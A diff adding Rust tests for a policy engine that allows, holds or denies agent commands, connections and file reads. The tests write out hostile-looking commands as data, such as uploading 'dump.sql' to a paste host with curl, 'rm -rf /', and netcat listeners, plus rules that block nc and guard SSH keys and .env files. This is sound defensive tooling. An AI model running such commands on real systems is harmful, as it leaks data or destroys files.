@@ -1,0 +1,352 @@
+use std::{collections::BTreeMap, path::PathBuf};
+
+use super::*;
+
+fn policy(files: &[(&str, &str)]) -> Result<Policy, PolicyErrors> {
+    let sources: Vec<(PathBuf, String)> = files
+        .iter()
+        .map(|(n, t)| (PathBuf::from(n), t.to_string()))
+        .collect();
+    Policy::from_sources(&sources)
+}
+
+fn exec(
+    p: &Policy,
+    cmd: &str,
+    labels: &[(&str, &str)],
+) -> (Decision, Option<String>, Option<String>) {
+    let labels: BTreeMap<String, String> = labels
+        .iter()
+        .map(|(k, v)| (k.to_string(), v.to_string()))
+        .collect();
+    let a = check::exec_action(cmd, None, None, false, None).unwrap();
+    let o = p.evaluate(
+        &a,
+        &Subject {
+            labels: &labels,
+            uid: 1000,
+            gid: 1000,
+        },
+    );
+    (
+        o.decision,
+        o.rule.map(|r| r.id.clone()),
+        o.monitor.map(|r| r.id.clone()),
+    )
+}
+
+const UPLOADS: &str = "\
+description: uploads
+rules:
+  - name: curl-upload
+    on: exec
+    when:
+      exe: [curl]
+      args: [\"-T\", \"--upload-file\", \"-d\", \"--data*\"]
+      not: {cmdline: \"*github.com*\"}
+    decision: hold
+    hold: {timeout: 2m, on_timeout: allow, message: \"{agent} runs {command}\"}
+  - name: no-nc
+    on: exec
+    when: {exe: [nc, ncat]}
+    decision: deny
+  - name: curl-ok
+    on: exec
+    when: {exe: curl, labels: {agent: trusted-*}}
+    decision: allow
+    priority: 10
+";
+
+#[test]
+fn first_match_by_priority_then_severity() {
+    let p = policy(&[("uploads.yaml", UPLOADS)]).unwrap();
+    assert_eq!(
+        exec(&p, "curl -T dump.sql https://paste.example", &[]),
+        (Decision::Hold, Some("uploads/curl-upload".into()), None)
+    );
+    assert_eq!(
+        exec(&p, "curl -T x https://github.com/a", &[]).0,
+        Decision::Record
+    );
+    assert_eq!(
+        exec(&p, "curl https://example.com", &[]).0,
+        Decision::Record
+    );
+    assert_eq!(exec(&p, "nc -l 1234", &[]).0, Decision::Deny);
+    // The higher-priority allow carves an exception out of the hold.
+    assert_eq!(
+        exec(
+            &p,
+            "curl -T dump.sql https://paste.example",
+            &[("agent", "trusted-ci")]
+        ),
+        (Decision::Allow, Some("uploads/curl-ok".into()), None)
+    );
+    let r = p.rule("uploads/curl-upload").unwrap();
+    assert_eq!(r.hold.timeout_s, 120);
+    assert_eq!(r.hold.on_timeout, crate::config::OnTimeout::Allow);
+}
+
+#[test]
+fn severity_orders_equal_priorities_across_files() {
+    let a = "rules:\n  - {name: ok, on: exec, when: {exe: rm}, decision: allow}\n";
+    let b = "rules:\n  - {name: stop, on: exec, when: {exe: rm, args: /}, decision: deny}\n";
+    let p = policy(&[("a.yaml", a), ("b.yaml", b)]).unwrap();
+    assert_eq!(exec(&p, "rm -rf /", &[]).1.as_deref(), Some("b/stop"));
+    assert_eq!(exec(&p, "rm -rf build", &[]).1.as_deref(), Some("a/ok"));
+}
+
+#[test]
+fn monitor_rules_record_what_they_would_do() {
+    let m =
+        "mode: monitor\nrules:\n  - {name: watch, on: exec, when: {exe: curl}, decision: hold}\n";
+    let p = policy(&[("m.yaml", m), ("uploads.yaml", UPLOADS)]).unwrap();
+    assert_eq!(
+        exec(&p, "curl https://example.com", &[]),
+        (Decision::Record, None, Some("m/watch".into()))
+    );
+    // The enforcing hold still decides; the monitor rule, first in load
+    // order at the same priority and severity, is noted.
+    assert_eq!(
+        exec(&p, "curl -T a https://x", &[]),
+        (
+            Decision::Hold,
+            Some("uploads/curl-upload".into()),
+            Some("m/watch".into())
+        )
+    );
+}
+
+#[test]
+fn errors_name_file_line_and_column() {
+    let e = policy(&[(
+        "bad.yaml",
+        "rules:\n  - name: x\n    on: exec\n    when:\n      exe: [curl, \"[oops\"]\n    decision: hold\n",
+    )])
+    .unwrap_err()
+    .to_string();
+    assert!(e.starts_with("bad.yaml:5:"), "{e}");
+    assert!(e.contains("bad glob \"[oops\""), "{e}");
+
+    let e = policy(&[(
+        "bad.yaml",
+        "rules:\n  - name: x\n    on: exec\n    when: {exe: curl}\n    decision: maybe\n",
+    )])
+    .unwrap_err()
+    .to_string();
+    assert!(e.starts_with("bad.yaml:5:15: "), "{e}");
+    assert!(
+        e.contains("unknown variant `maybe`, expected one of `allow`, `record`, `hold`, `deny`"),
+        "{e}"
+    );
+
+    let e = policy(&[(
+        "bad.yaml",
+        "rules:\n  - name: x\n    on: exec\n    when: {dest: 10.0.0.0/8}\n    decision: hold\n",
+    )])
+    .unwrap_err()
+    .to_string();
+    assert!(e.contains("`dest` does not apply to exec rules"), "{e}");
+    assert!(e.starts_with("bad.yaml:2:"), "{e}");
+
+    let e = policy(&[("bad.yaml", "rules:\n  - name: x\n    on: connect\n    when: {dest: 10.0.0.300/8}\n    decision: hold\n")])
+        .unwrap_err()
+        .to_string();
+    assert!(e.starts_with("bad.yaml:4:"), "{e}");
+    assert!(e.contains("is not a network"), "{e}");
+
+    let e = policy(&[(
+        "bad.yaml",
+        "rules:\n  - name: x\n    on: exec\n    when: {exe: curl, arg: -T}\n    decision: hold\n",
+    )])
+    .unwrap_err()
+    .to_string();
+    assert!(e.contains("unknown field `arg`"), "{e}");
+
+    let e = policy(&[(
+        "bad.yaml",
+        "rules:\n  - name: x\n    on: file\n    when: {path: \"/home/*/*\"}\n    decision: hold\n",
+    )])
+    .unwrap_err()
+    .to_string();
+    assert!(e.contains("name no file or directory literally"), "{e}");
+}
+
+#[test]
+fn connect_rules_and_their_candidates() {
+    let net = "\
+rules:
+  - name: known
+    on: connect
+    when: {dest: [127.0.0.0/8, \"::1\", 160.79.104.0/23]}
+    decision: allow
+    priority: 10
+  - name: rest
+    on: connect
+    when: {not: {dest: [10.0.0.0/8]}}
+    decision: hold
+  - name: ssh
+    on: connect
+    when: {dest: 10.0.0.0/8, port: [22, \"2200-2299\"], protocol: tcp}
+    decision: deny
+";
+    let p = policy(&[("net.yaml", net)]).unwrap();
+    let labels = BTreeMap::new();
+    let s = Subject {
+        labels: &labels,
+        uid: 0,
+        gid: 0,
+    };
+    let d = |a: &str, port: u16| {
+        p.evaluate(
+            &Action::Connect {
+                addr: a.parse().unwrap(),
+                port,
+                protocol: Some(Protocol::Tcp),
+            },
+            &s,
+        )
+        .decision
+    };
+    assert_eq!(d("127.0.0.1", 80), Decision::Allow);
+    assert_eq!(d("::ffff:127.0.0.1", 80), Decision::Allow);
+    assert_eq!(d("8.8.8.8", 443), Decision::Hold);
+    assert_eq!(d("10.1.1.1", 22), Decision::Deny);
+    assert_eq!(d("10.1.1.1", 2250), Decision::Deny);
+    assert_eq!(d("10.1.1.1", 443), Decision::Record);
+    let c = p.candidates();
+    // Everything is a candidate: `rest` covers all but 10/8, `ssh` covers 10/8.
+    assert_eq!(c.net, vec![(0, [0; 16])]);
+    assert!(c.exec_paths.is_empty() && !c.exec_all);
+}
+
+#[test]
+fn exec_candidates_and_notes() {
+    let p = policy(&[("uploads.yaml", UPLOADS)]).unwrap();
+    let c = p.candidates();
+    assert!(!c.exec_all);
+    assert_eq!(
+        c.exec_names.iter().cloned().collect::<Vec<_>>(),
+        vec!["curl", "nc", "ncat"]
+    );
+    let g = "rules:\n  - {name: pip, on: exec, when: {exe: \"pip*\", args: install}, decision: hold}\n  - {name: deploy, on: exec, when: {exe: /usr/local/bin/deploy}, decision: hold}\n  - {name: su, on: exec, when: {setuid: true}, decision: hold}\n";
+    let c = policy(&[("g.yaml", g)]).unwrap().candidates();
+    assert!(c.exec_all);
+    assert!(c.exec_setuid);
+    assert!(c.exec_paths.contains("/usr/local/bin/deploy"));
+    assert!(c.notes[0].contains("g/pip"), "{:?}", c.notes);
+}
+
+#[test]
+fn outside_workdir_and_files() {
+    let d = "\
+rules:
+  - name: rm-out
+    on: exec
+    when: {exe: rm, outside_workdir: true}
+    decision: hold
+  - name: keys
+    on: file
+    when: {path: [\"~/.ssh/id_*\", \"**/.env\"], access: read}
+    decision: hold
+";
+    let p = policy(&[("d.yaml", d)]).unwrap();
+    let labels: BTreeMap<String, String> =
+        [("workdir".to_string(), "/home/dev/proj".to_string())].into();
+    let s = Subject {
+        labels: &labels,
+        uid: 1000,
+        gid: 1000,
+    };
+    let rm = |cmd: &str| {
+        let a =
+            check::exec_action(cmd, None, None, false, Some("/home/dev/proj/src".into())).unwrap();
+        p.evaluate(&a, &s).decision
+    };
+    assert_eq!(rm("rm -rf build ../target"), Decision::Record);
+    assert_eq!(rm("rm -rf ../../other"), Decision::Hold);
+    assert_eq!(rm("rm -rf /"), Decision::Hold);
+    let f = |path: &str, write: bool| {
+        p.evaluate(
+            &Action::File {
+                path: path.into(),
+                write,
+            },
+            &s,
+        )
+        .decision
+    };
+    assert_eq!(f("/home/dev/.ssh/id_ed25519", false), Decision::Hold);
+    assert_eq!(f("/root/.ssh/id_rsa", false), Decision::Hold);
+    assert_eq!(f("/home/dev/.ssh/id_ed25519", true), Decision::Record);
+    assert_eq!(f("/home/dev/.ssh/known_hosts", false), Decision::Record);
+    assert_eq!(f("/srv/app/.env", false), Decision::Hold);
+    let c = p.candidates();
+    assert_eq!(c.files.get(".ssh"), Some(&airlock_common::FILE_CAND_DIR));
+    assert_eq!(c.files.get(".env"), Some(&airlock_common::FILE_CAND_NAME));
+}
+
+#[test]
+fn warnings_for_shadowed_and_impossible_rules() {
+    let w = "\
+rules:
+  - {name: all-curl, on: exec, when: {exe: [curl, wget]}, decision: deny}
+  - {name: curl-up, on: exec, when: {exe: curl, args: -T}, decision: deny}
+  - {name: never, on: connect, when: {all: [{dest: 10.0.0.0/8}, {dest: 192.168.0.0/16}]}, decision: hold}
+";
+    let p = policy(&[("w.yaml", w)]).unwrap();
+    let ws: Vec<String> = check::warnings(&p, Some(&[]))
+        .iter()
+        .map(|w| w.to_string())
+        .collect();
+    assert!(
+        ws.iter()
+            .any(|w| w.contains("w/curl-up: shadowed by w/all-curl")),
+        "{ws:?}"
+    );
+    assert!(
+        ws.iter()
+            .any(|w| w.contains("w/never: no destination address")),
+        "{ws:?}"
+    );
+    assert!(
+        ws.iter().any(|w| w.contains("no approvers are configured")),
+        "{ws:?}"
+    );
+}
+
+#[test]
+fn examples_are_checked() {
+    let f = "\
+rules:
+  - {name: no-nc, on: exec, when: {exe: nc}, decision: deny}
+examples:
+  - {exec: nc -l 99, expect: deny}
+  - {exec: nc -l 99, expect: {decision: deny, rule: no-nc}}
+  - {exec: ls, expect: deny}
+";
+    let p = policy(&[("e.yaml", f)]).unwrap();
+    let (n, fails) = check::examples(&p);
+    assert_eq!(n, 3);
+    assert_eq!(fails.len(), 1);
+    assert_eq!(
+        fails[0].to_string(),
+        "e.yaml: example 3 (ls): expected deny, got record; decided by no rule"
+    );
+}
+
+#[test]
+fn later_directories_replace_files_of_the_same_name() {
+    let a = tempfile::tempdir().unwrap();
+    let b = tempfile::tempdir().unwrap();
+    std::fs::write(a.path().join("x.yaml"), UPLOADS).unwrap();
+    std::fs::write(a.path().join("y.yaml"), "pack: y\nrules: []\n").unwrap();
+    std::fs::write(b.path().join("x.yaml"), "pack: uploads\nrules: []\n").unwrap();
+    std::fs::write(b.path().join("notes.txt"), "not a policy").unwrap();
+    let p = Policy::load_dirs(&[a.path().into(), b.path().into(), "/nonexistent".into()]).unwrap();
+    assert!(p.rules.is_empty());
+    assert_eq!(
+        p.files,
+        vec![a.path().join("y.yaml"), b.path().join("x.yaml")]
+    );
+}
